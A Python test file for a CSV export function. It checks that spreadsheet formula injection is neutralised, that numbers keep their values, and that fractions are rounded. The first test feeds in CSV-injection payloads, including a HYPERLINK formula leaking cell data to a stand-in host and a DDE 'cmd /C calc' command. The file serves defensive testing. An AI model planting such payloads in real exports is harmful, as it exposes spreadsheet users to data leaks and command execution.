"""CSV files hold text and numbers, and nothing that a spreadsheet runs."""

import csv
import io

from isogloss.report.parts.spreadsheet import PAGE, as_csv


def test_text_that_would_be_a_formula_is_marked_as_text() -> None:
    """OWASP's list of beginnings: = + - @ tab CR; a leading apostrophe makes a cell text."""
    run = ['=HYPERLINK("http://x/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "-", "-inf"]
    (row,) = list(csv.reader(io.StringIO(as_csv(run, [run]), newline="")))[1:]
    assert row == [f"'{text}" for text in run]
    assert as_csv(run, []).startswith("\"'=HYPERLINK")


def test_numbers_and_other_text_stay_as_they_are() -> None:
    """A negative number is no formula, and an undefined one is an empty cell."""
    values = [-0.25, "-1.5", "+3", "-1e-05", 7, None, "a=b", "", "−1.5", True]
    (row,) = list(csv.reader(io.StringIO(as_csv(["x"] * 10, [values]))))[1:]
    assert row == ["-0.25", "-1.5", "+3", "-1e-05", "7", "", "a=b", "", "−1.5", "True"]


def test_a_fraction_has_as_many_significant_digits_as_are_asked_for() -> None:
    """0.1 + 0.2 is 0.3 to a reader; what is 1 or more, such as seconds, keeps its digits."""
    row = [0.1 + 0.2, -0.05500000000000005, 1 / 3e7, 1234567.875]
    assert as_csv(["x"] * 4, [row], digits=PAGE).splitlines()[1] == "0.3,-0.055,3.33333e-08,1234567.875"
    assert [float(cell) for cell in as_csv(["x"] * 4, [row]).splitlines()[1].split(",")] == row
